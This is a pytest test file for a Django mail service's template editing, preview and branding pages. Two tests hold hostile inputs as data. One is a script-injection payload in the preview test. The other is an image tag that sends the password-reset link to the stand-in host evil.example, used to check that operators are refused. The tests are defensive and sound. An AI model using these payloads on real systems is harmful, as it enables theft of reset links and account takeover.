"""The pages Templates and Branding."""

import re
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from postroom.flow.instance.branding import branding
from postroom.flow.servers import configure
from postroom.flow.templates.template_edit import new_template, template_named, templates
from postroom.store.models import Message, SmtpServer, Template, User
from postroom.terms.server import ServerSettings

LIST = "/templates"
TEXT = {"subject": "{{ n }} rows", "html": "<h1>{{ n }} rows</h1>", "text": ""}
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40


@pytest.fixture
def figures() -> Template:
    return new_template({"name": "figures", "title": "Figures", "sample": {"n": 412}}, {"en": TEXT}, "test")


def typed(**changes: Any) -> dict[str, Any]:
    return {
        "languages": ["en"], "subject-en": TEXT["subject"], "html-en": TEXT["html"], "text-en": "", "name": "figures",
        "title": "Figures", "use": "other", "sample": '{"n": 7}', "shown": "en", "do": "save", **changes,
    }


def text_of(page: Client, path: str) -> str:
    return " ".join(page.get(path).content.decode().split())


@pytest.mark.usefixtures("figures")
def test_the_list_has_what_came_with_postroom_and_what_was_made(page: Client) -> None:
    text = text_of(page, LIST)
    for words in ("Report delivery", "Password reset", "as it came", "Figures", "en, fr"):
        assert words in text


def test_the_list_is_told_in_french(page: Client) -> None:
    User.objects.update(language="fr")
    text = text_of(page, LIST)
    assert "Livraison de rapport" in text
    assert "Réinitialisation du mot de passe" in text


def test_a_template_is_added_and_changed_and_versions_are_used_again(page: Client) -> None:
    assert page.post(f"{LIST}/new", typed()).status_code == 302
    row = Template.objects.get(name="figures")
    path = f"{LIST}/{row.pk}"
    assert page.post(path, typed(**{"subject-en": "{{ n }} lines"})).status_code == 302
    text = text_of(page, path)
    assert "Version 2" in text
    assert "7 lines" in text
    assert "7 rows" in text_of(page, f"{path}?version=1")
    assert page.post(f"{path}/use", {"version": "1"}).status_code == 302
    row.refresh_from_db()
    assert row.version == 1


def test_what_is_wrong_is_said_at_its_field_and_nothing_typed_is_lost(page: Client) -> None:
    answer = page.post(f"{LIST}/new", typed(**{"html-en": "<p>{{ n</p>", "name": "Not Good", "sample": "{"}))
    assert answer.status_code == 422
    answer = page.post(f"{LIST}/new", typed(**{"html-en": "<p>{{ n</p>", "name": "Not Good"}))
    text = answer.content.decode()
    for field in ("html-en", "name"):
        assert f'id="e-{field}"' in text
        assert f'href="#f-{field}"' in text
    assert "&lt;p&gt;{{ n&lt;/p&gt;" in text


def test_a_language_is_added_and_taken_away_without_losing_what_was_typed(page: Client, figures: Template) -> None:
    path = f"{LIST}/{figures.pk}"
    text = page.post(path, typed(do="add", add="fr", **{"html-en": "<p>mine</p>"})).content.decode()
    assert 'id="f-html-fr"' in text
    assert text.count("&lt;p&gt;mine&lt;/p&gt;") == 2
    both = typed(languages=["en", "fr"], **{"subject-fr": "{{ n }} lignes", "html-fr": "<p>x</p>", "text-fr": ""})
    assert page.post(path, both).status_code == 302
    assert "f-html-fr" in text_of(page, path)
    assert "f-html-fr" not in page.post(path, both | {"do": "drop-fr"}).content.decode()
    assert page.post(path, typed()).status_code == 302
    assert "f-html-fr" not in text_of(page, path)


def test_the_preview_shows_what_was_typed_and_saves_nothing(page: Client, figures: Template) -> None:
    answer = page.post(f"{LIST}/preview", typed(**{"html-en": "<h1>Unsaved {{ n }}</h1><img src='cid:x'>"}))
    text = answer.content.decode()
    assert "7 rows" in text
    assert "Say in alt what the picture" in text
    assert "Unsaved 7" in text
    figures.refresh_from_db()
    assert figures.version == 1
    assert "Close what begins with" in page.post(f"{LIST}/preview", typed(**{"html-en": "{{ n"})).content.decode()


def test_w4_the_preview_is_shown_in_a_frame_without_script_or_cookies(page: Client) -> None:
    body = typed(**{"html-en": "<h1>x</h1><script>alert(1)</script><img src='https://evil.example/x.png' alt='x'>"})
    text = page.post(f"{LIST}/preview", body).content.decode()
    found = re.search(r'<iframe[^>]* src="([^"]+)" sandbox=""', text)
    assert found
    stranger = Client()
    frame = stranger.get(found[1].replace("&amp;", "&"))
    assert frame.status_code == 200
    policy = frame["Content-Security-Policy"]
    assert "sandbox" in policy
    assert "default-src 'none'" in policy
    assert "img-src data:" in policy
    assert not frame.cookies
    assert "<script" not in frame.content.decode()
    assert stranger.get(found[1].split("?")[0]).status_code == 403


@pytest.mark.django_db(transaction=True)
def test_a_test_mail_goes_to_whoever_asks_for_it(
    page: Client, figures: Template, settings_of_relay: ServerSettings
) -> None:
    configure.save_untested(
        settings_of_relay, password="secret-canary", based_on=None, server=None, reason="for a test",
        use_unverified=True, make_default=True, actor="test",
    )
    answer = page.post(f"{LIST}/{figures.pk}", typed(do="test", **{"subject-en": "Try {{ n }}"}))
    assert "A test is on its way to marta@norrvik.example." in answer.content.decode()
    message = Message.objects.get()
    assert message.subject == "Try 7"
    assert list(message.deliveries.values_list("recipient", flat=True)) == ["marta@norrvik.example"]


@pytest.mark.django_db(transaction=True)
def test_without_a_server_the_test_says_why_it_can_t_be_sent(page: Client, figures: Template) -> None:
    SmtpServer.objects.all().delete()
    answer = page.post(f"{LIST}/{figures.pk}", typed(do="test"))
    assert answer.status_code == 422
    assert not Message.objects.exists()


def test_a_template_is_removed_only_after_asking_and_a_built_in_one_never(page: Client, figures: Template) -> None:
    assert "All versions of figures go with it" in text_of(page, f"{LIST}/{figures.pk}/remove")
    page.post(f"{LIST}/{figures.pk}/remove")
    assert not Template.objects.filter(name="figures").exists()
    own = next(row for row in templates() if row.name == "alert")
    page.post(f"{LIST}/{own.pk}/remove")
    assert Template.objects.filter(name="alert").exists()


def test_a_viewer_reads_and_is_offered_nothing(viewer: User, figures: Template) -> None:
    client = Client()
    client.force_login(viewer)
    text = text_of(client, f"{LIST}/{figures.pk}")
    assert "412 rows" in text
    assert "Save template" not in text
    assert client.post(f"{LIST}/{figures.pk}", typed()).status_code == 403


def test_branding_is_changed_and_what_can_t_be_read_is_refused(page: Client) -> None:
    answer = page.post(f"{LIST}/branding", {
        "accent": "#7a1f5c", "footer": "Norrvik Freight\nOslo", "logo": SimpleUploadedFile("logo.png", PNG),
    })
    assert answer.status_code == 302
    assert branding().accent == "#7a1f5c"
    assert "A logo of 48" in text_of(page, f"{LIST}/branding")
    refused = page.post(f"{LIST}/branding", {"accent": "#ffff00", "footer": "kept"})
    assert refused.status_code == 422
    assert "Choose a darker colour" in refused.content.decode()
    assert "kept" in refused.content.decode()
    page.post(f"{LIST}/branding", {"accent": "#7a1f5c", "footer": "", "no_logo": "on"})
    assert branding().logo is None


def test_a_subscription_may_use_what_came_with_postroom_before_anybody_looked_at_it(page: Client) -> None:
    assert 'value="report-delivery"' in text_of(page, "/subscriptions/new")
    Template.objects.all().delete()
    assert template_named("report-delivery") is not None


def test_the_mails_that_set_passwords_are_written_by_administrators_alone(page: Client, figures: Template) -> None:
    row = next(one for one in templates() if one.name == "password-reset")
    operator = Client()
    operator.force_login(User.objects.create(email="op@example.org", name="Op", role="operator"))
    stolen = typed(name="password-reset", **{"html-en": "<img src='https://evil.example/?{{ link }}'>"})
    assert operator.post(f"{LIST}/{row.pk}", stolen).status_code == 403
    assert operator.post(f"{LIST}/{row.pk}/use", {"version": "0"}).status_code == 403
    assert "Save template" not in text_of(operator, f"{LIST}/{row.pk}")
    assert operator.post(f"{LIST}/{figures.pk}", typed(**{"text-en": "more"})).status_code == 302
    assert "Save template" in text_of(page, f"{LIST}/{row.pk}")
